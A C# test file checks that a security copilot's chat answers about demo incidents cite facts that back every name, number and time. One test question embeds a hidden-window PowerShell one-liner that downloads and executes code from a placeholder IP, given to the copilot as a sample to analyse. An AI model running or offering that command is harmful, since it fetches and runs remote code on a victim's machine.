using Redoubt.Copilot.Answers;
using Redoubt.Copilot.Chatting;
using Redoubt.Copilot.Claims;
using Redoubt.Copilot.Grounding;
using Redoubt.Copilot.Questions;

namespace Redoubt.Server.Tests.Chatting;

/// <summary>
/// Over the incidents of the demo, whatever the chat is asked: each name, number, time, hash and id of each sentence stands in the facts that
/// the sentence cites, and each piece of evidence is there.
/// </summary>
public sealed class FaithfulnessTests(ChatDemo demo) : IClassFixture<ChatDemo>
{
    private const int MostIncidents = 25;

    private static readonly string[] Questions =
    [
        "Summarize this incident", "Show me the alerts of this incident", "Are there similar incidents?", "Identify the scripts in this incident",
        "Which users are involved?", "Which devices are involved?", "Which addresses are involved?", "How many alerts are there?", "When did it start?", "When did it end?",
        "Who owns it?", "What was done about it?", "Was anything blocked?", "Which techniques were used?", "What is the severity and why?", "What was the first alert?",
        "Which files are named?", "Which process started first?", "What happened after 03:00?", "Write the report of this incident",
    ];

    public static TheoryData<string> Asked => [.. Questions];

    [Theory]
    [MemberData(nameof(Asked))]
    public async Task No_sentence_says_more_than_its_facts_show(string question)
    {
        var said = 0;
        foreach (var incident in (await demo.IncidentsAsync()).Take(MostIncidents))
        {
            var reply = await demo.Chat().AnswerAsync(new ChatQuestion(question, new ChatPage(IncidentId: incident)), TestContext.Current.CancellationToken);
            said += Check(reply.Answer);
        }

        said.ShouldBeGreaterThan(20, question);
    }

    [Theory]
    [InlineData("Show me high-severity incidents from the past week")]
    [InlineData("What should I work on first?")]
    [InlineData("Tell me about FS02")]
    [InlineData("Who is p.nair?")]
    [InlineData("alerts per severity")]
    [InlineData("Analyze this script: powershell -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\"")]
    public async Task Nor_without_an_incident(string question) =>
        Check((await demo.Chat().AnswerAsync(new ChatQuestion(question), TestContext.Current.CancellationToken)).Answer).ShouldBeGreaterThan(0);

    private static int Check(Answer answer)
    {
        if (answer.Claims.Count == 0)
            return 0;
        var words = SkillContent.Of(answer.Skill).Vocabulary.Concat(SkillContent.SummarizeIncident.Vocabulary)
            .Concat(QuestionWords.Known.Kinds.SelectMany(kind => kind.Noun).SelectMany(noun => noun.Split(' ')));
        var checker = new GroundingChecker(words);
        foreach (var claim in answer.Claims)
        {
            var text = string.Concat(claim.Text.Runs.Select(run => run.Text));
            checker.Check(claim.Text.Runs, claim.Facts).ShouldBeEmpty($"{answer.Skill} {claim.Id}: {text}");
        }

        answer.Sentences.ShouldAllBe(sentence => sentence.Citations.Count > 0);
        return answer.Claims.Count;
    }
}
